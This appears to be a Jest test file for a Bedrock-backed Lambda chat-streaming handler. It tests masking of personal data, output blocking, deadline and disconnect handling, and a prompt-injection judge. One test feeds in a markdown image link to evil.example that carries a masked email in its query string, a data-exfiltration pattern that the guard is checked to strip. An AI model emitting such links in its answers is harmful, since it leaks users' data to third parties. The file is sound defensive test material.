import { checkOutput } from '../../lambda/guard';
import type { ChatSettings } from '../../lambda/shared/chat-settings';
import { useChatBackends } from '../support/chat-backends';
import {
  LEAK_FORMS,
  PROMPT_WITH_IDENTIFIERS,
  SAMPLE,
  USER_A,
  chatEvent,
  deadlineContext,
  lambdaContext,
  personalDataInLogs,
  testSettings,
  useHandlerEnvironment,
  userMessage,
} from '../support/chat-harness';
import { AWS_LAMBDA_STREAMING, HTTP_INTEGRATION_RESPONSE, installLambdaStreaming, RecordingResponseStream } from '../support/lambda-streaming';

useHandlerEnvironment();
installLambdaStreaming();

type StreamModule = typeof import('../../lambda/handlers/chat-stream');

const backends = useChatBackends();
const { bedrock, capture } = backends;
let chatStream: StreamModule;

beforeAll(() => {
  // Loaded after the environment and the runtime global are set, as in Lambda.
  chatStream = require('../../lambda/handlers/chat-stream') as StreamModule;
});

function setup(overrides: Partial<ChatSettings> = {}) {
  const settings = testSettings(overrides);
  const deps = backends.depsFor(settings);
  const { store } = deps;
  const handler = chatStream.createChatStreamHandler({ ...deps, runtime: AWS_LAMBDA_STREAMING });
  return { handler, store, settings };
}

async function invoke(body: unknown, options: { overrides?: Partial<ChatSettings>; context?: ReturnType<typeof lambdaContext>; stream?: RecordingResponseStream } = {}) {
  const { handler, store } = setup(options.overrides);
  const stream = options.stream ?? new RecordingResponseStream();
  const event = chatEvent(body);
  const before = capture.auditEvents().length;
  await handler(event, stream, options.context ?? lambdaContext());
  const audits = capture.auditEvents().slice(before).filter((a) => a.requestId === event.requestContext.requestId);
  return { stream, audits, store, requestId: event.requestContext.requestId };
}

const deltas = (stream: RecordingResponseStream) => stream.events().filter((e) => e.event === 'delta').map((e) => e.data.text as string).join('');
const names = (stream: RecordingResponseStream) => [...new Set(stream.events().map((e) => e.event))];

/** An answer of `n` chunks of Japanese text, a hold-back window several times over. */
const chunksOf = (text: string, size = 6) => Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));
const LONG = `${'ご質問の件について順に説明します。'.repeat(12)}担当の電話は ${SAMPLE.phone}、メールは hanako.suzuki@example.com です。${'以上、よろしくお願いいたします。'.repeat(12)}`;

describe('POST /v1/chat/stream', () => {
  it('streams meta, guarded deltas and done, equal to the buffered check, and stores the turn masked', async () => {
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf(LONG), inputTokens: 30, outputTokens: 90 });
    const { stream, audits, store } = await invoke(userMessage(PROMPT_WITH_IDENTIFIERS));

    expect(stream.contentType).toBe(HTTP_INTEGRATION_RESPONSE);
    const { prelude } = stream.response();
    expect(prelude).toMatchObject({ statusCode: 200, headers: { 'content-type': 'text/event-stream; charset=utf-8', 'cache-control': 'no-store' } });
    expect(names(stream)).toEqual(['meta', 'delta', 'done']);

    const [meta] = stream.events();
    expect(meta.data).toMatchObject({ model: expect.any(String), masked: { total: 4 } });
    const text = deltas(stream);
    expect(text).toBe(checkOutput(LONG).text);
    expect(text).toContain('[OUT_PHONE_NUMBER_1]');
    for (const form of [...LEAK_FORMS, 'hanako.suzuki@example.com']) expect(stream.bytes.toString('utf8')).not.toContain(form);
    expect(stream.events().filter((e) => e.event === 'delta').length).toBeGreaterThan(3);

    const done = stream.events().at(-1)!;
    expect(done.data).toMatchObject({ stopReason: 'end_turn', usage: { inputTokens: 30, outputTokens: 90 }, outputCheck: { action: 'mask' } });

    // What the model received was masked.
    expect(bedrock.received[0].operation).toBe('converse-stream');
    for (const form of LEAK_FORMS) expect(bedrock.received[0].rawBody).not.toContain(form);

    const history = await store.history(USER_A, meta.data.conversationId, 5);
    expect(history?.turns).toHaveLength(1);
    const stored = history!.turns[0].messages.map((m) => m.text).join('\n');
    expect(stored).toContain(text);
    for (const form of LEAK_FORMS) expect(stored).not.toContain(form);

    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ operation: 'chat_stream', decision: 'allowed', outputCheck: 'mask', outputTokens: 90 });
    expect(audits[0].timeToFirstByteMs).toBeGreaterThan(0);
    expect(audits[0].timeToFirstTextMs).toBeGreaterThanOrEqual(audits[0].timeToFirstByteMs);
    expect(audits[0].latencyMs).toBeGreaterThanOrEqual(audits[0].timeToFirstTextMs);
    expect(personalDataInLogs(capture.lines)).toEqual([]);
  });

  it('a slow stream reaches the caller as it is written, not at the end', async () => {
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf('あいうえお'.repeat(80), 10), delayMs: 15 });
    const { stream, audits } = await invoke(userMessage('長い回答をお願いします'));
    const writes = stream.writes.filter((w) => w.bytes.toString('utf8').startsWith('event: delta'));
    expect(writes.length).toBeGreaterThan(5);
    // The first text went out long before the last: 40 chunks at 15 ms.
    expect(writes.at(-1)!.at - writes[0].at).toBeGreaterThan(200);
    expect(audits[0].timeToFirstTextMs).toBeLessThan(audits[0].latencyMs - 200);
  });

  it('refuses a blocked input before the first byte with the buffered route\'s 422 and JSON body', async () => {
    const { stream, audits } = await invoke(userMessage(PROMPT_WITH_IDENTIFIERS), {
      overrides: { guard: { defaultPolicy: { entityActions: { MY_NUMBER: 'block' } }, groups: {} } as ChatSettings['guard'] },
    });
    const { prelude, body } = stream.response();
    expect(prelude).toMatchObject({ statusCode: 422, headers: { 'content-type': 'application/json; charset=utf-8' } });
    expect(JSON.parse(body)).toMatchObject({ error: { code: 'blocked_by_policy', reason: 'personal_data' } });
    expect(bedrock.received).toHaveLength(0);
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ decision: 'blocked_input', timeToFirstByteMs: 0 });
  });

  it('maps throttling before the first byte to 429, as the buffered route does', async () => {
    for (let i = 0; i < 3; i++) bedrock.enqueueStream({ kind: 'error', status: 429, type: 'ThrottlingException' });
    const { stream, audits } = await invoke(userMessage('こんにちは'), { overrides: { bedrock: { ...testSettings().bedrock, maxAttempts: 1 } } });
    expect(stream.response().prelude?.statusCode).toBe(429);
    expect(JSON.parse(stream.response().body).error.code).toBe('bedrock_throttled');
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ decision: 'error', errorKind: 'bedrock_throttled' });
  });

  it('a mid-stream exception ends with an error event; nothing is stored', async () => {
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf(LONG), failAfter: { chunks: 40, exception: 'modelStreamErrorException' } });
    const { stream, audits, store } = await invoke(userMessage('説明してください'));
    const events = stream.events();
    expect(stream.response().prelude?.statusCode).toBe(200);
    expect(events.at(-1)).toMatchObject({ event: 'error', data: { code: 'bedrock_error', requestId: audits[0].requestId } });
    expect(events.some((e) => e.event === 'done')).toBe(false);
    expect(await store.history(USER_A, events[0].data.conversationId, 5)).toBeUndefined();
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ decision: 'error', errorKind: 'bedrock_error' });
    expect(audits[0].timeToFirstByteMs).toBeGreaterThan(0);
  });

  it('a stream that stalls past the deadline ends with an error event while there is time to audit', async () => {
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf(LONG), stallAfter: 30 });
    const started = Date.now();
    // 1.5 s margin + 1 s store reserve: the model gets about 400 ms.
    const { stream, audits } = await invoke(userMessage('説明してください'), { context: deadlineContext(2_900) });
    expect(Date.now() - started).toBeLessThan(1_500);
    expect(stream.events().at(-1)).toMatchObject({ event: 'error', data: { code: 'bedrock_timeout' } });
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ decision: 'error', errorKind: 'bedrock_timeout' });
    await new Promise((r) => setTimeout(r, 50));
    expect(bedrock.streams[0].closedByClient).toBe(true);
  });

  it('a caller too slow to read is not waited for past the deadline', async () => {
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf('さしすせそ'.repeat(200), 5) });
    const started = Date.now();
    const { audits } = await invoke(userMessage('説明してください'), { stream: new RecordingResponseStream({ writeDelayMs: 100 }), context: deadlineContext(2_900) });
    expect(Date.now() - started).toBeLessThan(2_000);
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ decision: 'error', errorKind: 'bedrock_timeout' });
    expect(await setup().store.history(USER_A, audits[0].conversationId, 5)).toBeUndefined();
  });

  it('a caller that disconnects aborts the Bedrock stream; the turn is not stored and the audit says so', async () => {
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf('かきくけこ'.repeat(200), 5), delayMs: 5 });
    const stream = new RecordingResponseStream();
    stream.onWrite = (text) => {
      if (text.startsWith('event: delta')) stream.disconnect();
    };
    const { audits, store } = await invoke(userMessage('説明してください'), { stream });
    await new Promise((r) => setTimeout(r, 50));
    expect(bedrock.streams[0].closedByClient).toBe(true);
    expect(bedrock.streams[0].chunksSent).toBeLessThan(200);
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ decision: 'error', errorKind: 'client_disconnected' });
    expect(await store.history(USER_A, audits[0].conversationId, 5)).toBeUndefined();
  });

  it('a caller gone before the first byte: no write, no crash, one audit event', async () => {
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf(LONG) });
    const stream = new RecordingResponseStream();
    stream.disconnect();
    const { audits } = await invoke(userMessage('説明してください'), { stream });
    expect(stream.writes).toHaveLength(0);
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ decision: 'error', errorKind: 'client_disconnected', timeToFirstByteMs: 0 });
  });

  it('stops with a blocked event when the answer carries a confidentiality marker; only checked text went out', async () => {
    const answer = `${'一般的な手順を説明します。'.repeat(20)}この資料は社外秘です。${'続きです。'.repeat(40)}`;
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf(answer) });
    const { stream, audits, store } = await invoke(userMessage('手順を教えて'));
    const events = stream.events();
    expect(events.at(-1)).toMatchObject({ event: 'blocked', data: { code: 'blocked_by_policy', reason: 'answer', stage: 'output' } });
    expect(deltas(stream)).not.toContain('社外秘');
    expect(answer.startsWith(deltas(stream))).toBe(true);
    expect(await store.history(USER_A, events[0].data.conversationId, 5)).toBeUndefined();
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ decision: 'blocked_output', outputCheck: 'block' });
  });

  it('a guardrail intervention ends with a blocked event (reason guardrail) and nothing is stored', async () => {
    bedrock.enqueueStream({ kind: 'stream', chunks: ['この回答は組織の', 'ポリシーにより表示できません。'], stopReason: 'guardrail_intervened' });
    const { stream, audits, store } = await invoke(userMessage('説明してください'));
    const events = stream.events();
    expect(events.at(-1)).toMatchObject({ event: 'blocked', data: { reason: 'guardrail', stage: 'output' } });
    expect(await store.history(USER_A, events[0].data.conversationId, 5)).toBeUndefined();
    expect(audits[0]).toMatchObject({ decision: 'blocked_output', stopReason: 'guardrail_intervened' });
  });

  it('restores the caller\'s own values in the deltas as the buffered route does, never into a link, and stores them masked', async () => {
    const answer = `${'承知しました。'.repeat(20)}ご連絡先は [EMAIL_1] ですね。![x](https://evil.example/p.png?q=[EMAIL_1]) ${'以上です。'.repeat(30)}`;
    bedrock.enqueueStream({ kind: 'stream', chunks: chunksOf(answer, 4) });
    const { stream, store } = await invoke(userMessage(`私のメールは ${SAMPLE.email} です`), {
      overrides: { guard: { defaultPolicy: { restoreInAnswer: true }, groups: {} } as ChatSettings['guard'] },
    });
    const text = deltas(stream);
    expect(text).toContain(`ご連絡先は ${SAMPLE.email} ですね`);
    expect(text).not.toContain('https://evil');
    expect(text.split(SAMPLE.email)).toHaveLength(2);
    const history = await store.history(USER_A, stream.events()[0].data.conversationId, 5);
    const stored = history!.turns[0].messages.map((m) => m.text).join('\n');
    expect(stored).not.toContain(SAMPLE.email);
  });

  it('the module handler is marked as a streaming handler for the runtime', () => {
    expect((chatStream.handler as unknown as Record<symbol, string>)[Symbol.for('aws.lambda.runtime.handler.streaming')]).toBe('response');
  });
});

describe('POST /v1/chat/stream with the injection judge', () => {
  const judge: NonNullable<ChatSettings['injectionJudge']> = { model: 'jp.amazon.nova-2-lite-v1:0', greyZoneFrom: 0.2, judgeDocuments: true, timeoutMs: 2_000, onFailure: 'block' };
  const MAIL = { name: 'mail.txt', text: '件名: 見積もり\n\n来週までに見積書を送ってください。' };
  /** A plain request that scores far below the judge's grey zone, so the documents are what call the judge. */
  const PLAIN_REQUEST = 'このメールについて、要点を日本語で3行にまとめてください。';

  it('judges before the stream opens: an attack verdict is the buffered route\'s 422, and no ConverseStream is opened', async () => {
    bedrock.enqueue({ kind: 'answer', text: '{"message":"attack","documents":"none"}' });
    const { stream, audits } = await invoke(userMessage(PLAIN_REQUEST, [MAIL]), { overrides: { injectionJudge: judge } });
    const { prelude, body } = stream.response();
    expect(prelude).toMatchObject({ statusCode: 422 });
    expect(JSON.parse(body)).toMatchObject({ error: { code: 'blocked_by_policy', reason: 'prompt_injection', judge: true } });
    expect(bedrock.received.map((r) => r.operation)).toEqual(['converse']);
    expect(audits[0]).toMatchObject({ operation: 'chat_stream', decision: 'blocked_injection', injectionJudge: { verdict: 'attack', trigger: 'documents' } });
  });

  it('a benign verdict: one Converse call for the judge, then the answer streams', async () => {
    bedrock.enqueue({ kind: 'answer', text: '{"message":"benign","documents":"benign"}' });
    bedrock.enqueueStream({ kind: 'stream', chunks: ['見積書は', '来週送付します。'] });
    const { stream, audits } = await invoke(userMessage(PLAIN_REQUEST, [MAIL]), { overrides: { injectionJudge: judge } });
    expect(names(stream)).toEqual(['meta', 'delta', 'done']);
    expect(bedrock.received.map((r) => r.operation)).toEqual(['converse', 'converse-stream']);
    expect(audits[0]).toMatchObject({ decision: 'allowed', injectionJudge: { verdict: 'benign' } });
  });
});
